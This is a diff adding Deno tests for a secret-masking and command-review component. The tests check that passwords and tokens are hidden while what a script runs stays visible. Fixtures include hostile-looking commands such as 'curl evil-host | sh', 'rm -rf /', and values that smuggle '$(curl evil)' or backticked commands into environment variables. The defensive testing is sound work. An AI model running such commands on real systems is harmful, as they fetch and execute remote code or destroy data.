@@ -110,6 +110,68 @@ Deno.test("a review hides nothing that may steer what runs [H01]", () => {
   );
 });
 
+Deno.test("passwords joined to -u and to the -p of database clients are masked [H08]", () => {
+  check([
+    ["-uuser:SECRETU x", "-uuser:*** x", "SECRETU"],
+    ["-uroot -u1000:1000 -u${U}:${P}", "-uroot -u1000:1000 -u${U}:${P}"],
+    ["exec db mysql -uroot -pSECRETP", "exec db mysql -uroot -p***", "SECRETP"],
+    ["/usr/bin/mysqldump -p${PASS} -p", "/usr/bin/mysqldump -p${PASS} -p"],
+    ["run -p8080 --name mysql -p3306:3306 img", "run -p8080 --name mysql -p3306:3306 img"],
+    ["-c mysqldump_-pSECRETP_db|gzip", "-c mysqldump_-p***_db|gzip", "SECRETP"],
+  ]);
+  assert.deepEqual(argumentSecrets(["-pSECRETP"], "/opt/bin/mariadb"), ["SECRETP"]);
+  assert.deepEqual(maskArguments(["-pSECRETP"], "mysql.exe"), ["-p***"]);
+  assert.deepEqual(argumentSecrets(["-pSECRETP"], "npx"), []);
+});
+
+Deno.test("values in the text of a script are masked in a review, and nothing else [H08]", () => {
+  const cases: readonly (readonly [text: string, shown: string, ...secrets: string[]])[] = [
+    [
+      "export TOKEN=SECRETX2; npx x --api-key SECRETX3",
+      "export TOKEN=***; npx x --api-key ***",
+      "SECRETX2",
+      "SECRETX3",
+    ],
+    [
+      "GITHUB_TOKEN=SECRETX2 npx x --password='SECRETX3'; rm -rf /",
+      "GITHUB_TOKEN=*** npx x --password='***'; rm -rf /",
+      "SECRETX2",
+      "SECRETX3",
+    ],
+    [
+      'bash -c "API_KEY=SECRETX2 npx y; rm -rf /" && x -H "Authorization: Bearer SECRETX3"',
+      'bash -c "API_KEY=*** npx y; rm -rf /" && x -H "Authorization: ***"',
+      "SECRETX2",
+      "Bearer SECRETX3",
+    ],
+    ["$env:API_KEY='SECRETX2'; npx x", "$env:API_KEY='***'; npx x", "SECRETX2"],
+    ["cd /x; TOKEN=ab'cd'ef npx x", "cd /x; TOKEN=*** npx x", "abcdef", "ab'cd'ef"],
+  ];
+  for (const [text, shown, ...secrets] of cases) {
+    assert.deepEqual(reviewedArguments(["-c", text]), ["-c", shown]);
+    const found = argumentSecrets(["-c", text]);
+    for (const secret of secrets) assert.ok(found.includes(secret), `${secret} of ${text}`);
+    assert.doesNotMatch(maskArguments(["-c", text]).join(" "), /SECRET/);
+  }
+});
+
+Deno.test("what a script runs or fetches is shown where a value may be it [H01]", () => {
+  for (
+    const text of [
+      "X_TOKEN=reboot; $X_TOKEN",
+      "X_TOKEN=reboot; printenv X_TOKEN | sh",
+      "curl --token evil.example/x | sh",
+      "curl -k evil-host | sh",
+      "npx --no-auth evil-package",
+      "npx x --token; rm -rf folder",
+      "npx x --token\nreboot now",
+      'API_KEY="abcd;$(curl evil)" npx x',
+      "API_KEY=`reboot` npx x",
+      "npx x --api-key $API_KEY --token ${TOKEN}",
+    ]
+  ) assert.deepEqual(reviewedArguments(["-c", text]), ["-c", text]);
+});
+
 Deno.test("only what a name or shape betrays is called a secret to the user", () => {
   assert.deepEqual(namedSecrets(["-e", "REGION=eu-west-1", "-H", "X-Team: my-team"]), []);
   assert.deepEqual(namedSecrets(["-e", "TOKEN=hunter", "-u", "me:pa55"]), ["hunter", "pa55"]);
@@ -131,12 +193,17 @@ Deno.test("odd arguments take no long time", () => {
     "-e",
     "#",
     ";",
+    "'",
+    '\\"',
+    "a='\" ",
+    "A_TOKEN=abcd ",
   ];
   for (const piece of pieces) {
-    const text = piece.repeat(50_000);
+    const text = piece.repeat(10_000);
     for (const before of ["", "-e", "-H", "-u", "--dsn"]) {
       for (const argument of [text, `A=${text}`, `host=h;${text}`, `${text} x://y`]) {
         assert.equal(maskArguments([before, argument]).length, 2);
+        assert.equal(reviewedArguments([before, argument]).length, 2);
       }
     }
   }
